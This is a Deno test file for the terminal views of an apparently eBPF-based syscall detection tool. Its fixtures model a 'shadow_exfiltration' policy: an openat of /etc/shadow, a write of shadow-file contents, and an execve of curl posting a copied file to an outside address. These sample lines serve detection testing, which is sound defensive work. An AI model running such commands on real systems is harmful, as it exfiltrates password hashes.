import assert from "node:assert/strict";
import { doctorReport } from "../../../repl/views/doctor.ts";
import { call, eventLine } from "../../../repl/views/event.ts";
import { machineLine, machineStrip } from "../../../repl/views/machine.ts";
import type { Position } from "../../../repl/views/machine.ts";
import { matchLine, matchReport } from "../../../repl/views/match.ts";
import { policyTable } from "../../../repl/views/policies.ts";
import { reportLines } from "../../../repl/views/report.ts";
import { PAPER } from "../../../repl/views/screen.ts";
import { stateTable } from "../../../repl/views/state.ts";
import { summaryLine } from "../../../repl/views/summary.ts";
import { targetTable } from "../../../repl/views/targets.ts";
import { transitionLine } from "../../../repl/views/transition.ts";
import { golden } from "./golden.ts";
import {
  BRANCHED,
  CREATED,
  EVENTS,
  MACHINE,
  MATCH,
  POLICIES,
  RUNS,
  SOURCE,
  STARTED,
  TRANSITIONS,
} from "./samples.ts";

Deno.test("eventLine shows events of every kind in one line", (t) =>
  golden(t, (screen) => EVENTS.map((event) => eventLine(event, screen))));

Deno.test("eventLine shows the time of day when the start is known", (t) =>
  golden(
    t,
    (screen) =>
      EVENTS.map((event) => eventLine(event, { ...screen, start: "2026-11-23T03:00:00Z" })),
  ));

Deno.test("call shows everything when there is room", () => {
  assert.equal(
    call(CREATED, PAPER),
    `creat("/tmp/copy", flags=O_WRONLY|O_CREAT|O_TRUNC, mode=0600) = -EACCES [late]`,
  );
  assert.equal(
    call(STARTED, PAPER),
    `execve("/usr/bin/curl", argv=["curl", "-s", "--data-binary", "@/tmp/copy", ` +
      `"http://198.51.100.7:8080/upload"], env=["HOME=/root", "PATH=/usr/bin:/bin"]) = ?`,
  );
});

Deno.test("matchLine announces a match in one line", (t) =>
  golden(t, (screen) => [
    matchLine(MATCH, screen),
    matchLine(MATCH, screen, { number: 12 }),
    matchLine({ ...MATCH, tainted: true, blocks: [], severity: "critical" }, screen, { number: 3 }),
  ]));

Deno.test("call counts the variables of an environment when they are many", () => {
  const of = (count: number) =>
    call({
      ...STARTED,
      args: { ...STARTED.args, env: Array.from({ length: count }, (_, n) => `V${n}=${n}`) },
    }, PAPER);
  assert.match(of(6), /env=\["V0=0", .*"V5=5"\]/);
  assert.match(of(31), /env=\[31 entries\]/);
});

Deno.test("matchReport shows the evidence on a time line", (t) =>
  golden(t, (screen) => matchReport(MATCH, screen, { number: 3, source: SOURCE })));

Deno.test("matchReport says that events were lost when the match is tainted", (t) =>
  golden(
    t,
    (screen) => matchReport({ ...MATCH, tainted: true, steps: MATCH.steps.slice(0, 1) }, screen),
  ));

Deno.test("stateTable shows live runs", (t) => golden(t, (screen) => stateTable(RUNS, screen)));

Deno.test("policyTable shows policies with their counts", (t) =>
  golden(t, (screen) => policyTable(POLICIES, screen)));

Deno.test("targetTable shows what is watched", (t) =>
  golden(t, (screen) =>
    targetTable([
      {
        pid: 4242,
        name: "sh ./staged.sh --with a --very long --command line",
        follow: true,
        processes: 3,
      },
      { pid: 1, name: "init", follow: false, processes: 1 },
    ], screen)));

Deno.test("the tables say so when there is nothing to show", () => {
  assert.deepEqual(stateTable([], PAPER), ["No live run"]);
  assert.deepEqual(policyTable([], PAPER), ["No policy is loaded"]);
  assert.deepEqual(targetTable([], PAPER), ["No process is watched"]);
});

Deno.test("machineLine answers a compiled policy", () => {
  assert.equal(
    machineLine(BRANCHED, PAPER),
    "branched: 3 states, waits for openat, execve, unlink, write; by tree",
  );
  assert.equal(
    machineLine(MACHINE, PAPER),
    "shadow_exfiltration: 3 states, waits for openat, write, execve; by tree, within 5 min",
  );
});

Deno.test("machineStrip marks where a run stands", (t) =>
  golden(t, (screen) => {
    const places: readonly Position[] = [0, 1, 2, "match"];
    const long = {
      ...MACHINE,
      states: MACHINE.states.map((state) => ({
        ...state,
        name: state.name.replace(/: .*/, "$&$&"),
      })),
    };
    return [
      ...places.map((place) => machineStrip(MACHINE, place, screen)),
      ...places.map((place) => machineStrip(long, place, screen)),
      machineStrip(BRANCHED, 2, screen),
      machineStrip(BRANCHED, "dismissed", screen),
    ];
  }));

Deno.test("machineStrip keeps the marked state when there are too many", (t) =>
  golden(t, (screen) => {
    const count = 30;
    const many = {
      ...MACHINE,
      steps: Array.from({ length: count }, (_, index) => ({
        ...(MACHINE.steps[0] ?? assert.fail()),
        label: `openat ${index}`,
      })),
      states: Array.from({ length: count }, (_, index) => ({
        name: index === 0 ? "start" : `after line ${index}: openat ${index}`,
        edges: [{
          step: index,
          to: index + 1 === count ? "match" as const : index + 1,
          blocks: [],
          repeat: false,
        }],
        without: [],
      })),
    };
    return [0, 15, "match" as const].map((place) => machineStrip(many, place, screen));
  }));

Deno.test("transitionLine shows each cause", (t) =>
  golden(t, (screen) => TRANSITIONS.map((one) => transitionLine(one, screen, MACHINE))));

Deno.test("transitionLine shows the event too when there is room", () => {
  assert.deepEqual(
    TRANSITIONS.slice(0, 2).map((one) => transitionLine(one, { ...PAPER, columns: 160 })),
    [
      "+1.500 s  shadow_exfiltration  tree 4000  state 0 ─▶ state 1  sh 4242 " +
      'openat("/etc/shadow", flags=O_RDONLY|O_CLOEXEC) = 3',
      "+1.507 s  shadow_exfiltration  tree 4000  state 1 ─▶ state 2  sh 4242/4243 " +
      'write(4, content="root:*:19000:0:99999:7:::\\ndaemon:*:19000:0:"…, len=1204) = 1204',
    ],
  );
});

Deno.test("reportLines shows whatever a session reports", (t) =>
  golden(t, (screen) => {
    const run = { policy: "p", subject: { by: "process", id: 7 }, start: 1e9, end: 3e9 } as const;
    return [
      MATCH,
      { type: "dismissed", ...run } as const,
      { type: "suppressed", ...run } as const,
      ...TRANSITIONS.slice(0, 1),
      { type: "lost", count: 1200, cause: "the ring buffer was full on CPU 1", ts: 2e9 } as const,
      {
        type: "warning",
        message: "Process 7 uses io_uring: what it does through it is not seen",
        ts: 2e9,
      } as const,
    ].flatMap((report) => reportLines(report, screen, { number: 1 }));
  }));

Deno.test("doctorReport shows what is missing and what mends it", (t) =>
  golden(t, (screen) =>
    doctorReport([
      { name: "kernel", ok: true, detail: "6.18.0 on x86_64" },
      { name: "libbpf", ok: true, detail: "/usr/lib/x86_64-linux-gnu/libbpf.so.1 (1.1.2)" },
      {
        name: "privilege",
        ok: false,
        detail: "this user may not load BPF programs",
        remedy: "run as root, or give the program CAP_BPF, CAP_PERFMON and CAP_SYS_PTRACE",
      },
      { name: "a name that is too long", ok: false, detail: "no remedy" },
    ], screen)));

Deno.test("summaryLine mentions what there is, and always what was lost", () => {
  const summary = {
    type: "summary",
    events: 120_331,
    matches: 1,
    dismissed: 0,
    suppressed: 0,
    dropped: 0,
    skipped: 0,
    policies: 2,
  } as const;
  assert.equal(
    summaryLine({ ...summary, matches: 0, policies: 0 }, PAPER),
    "120,331 events",
    "where nothing could match, that nothing did is no news",
  );
  assert.equal(summaryLine(summary, PAPER), "120,331 events, 1 match of 2 policies");
  assert.equal(
    summaryLine(
      { ...summary, matches: 0, dismissed: 3, suppressed: 4, dropped: 1, skipped: 2 },
      PAPER,
    ),
    "120,331 events, 0 matches of 2 policies, 3 dismissed, 4 suppressed by a cooldown, " +
      "1 event was lost in the kernel, 2 malformed lines were skipped",
  );
  assert.equal(
    summaryLine({
      ...summary,
      dropped: 1_250,
      lost: { "ring buffer full": 1_250 },
      cpus: { 0: 1_200, 3: 50 },
    }, PAPER),
    "120,331 events, 1 match of 2 policies, " +
      "1,250 events were lost in the kernel (ring buffer full) (CPU 0: 1,200, CPU 3: 50)",
  );
});
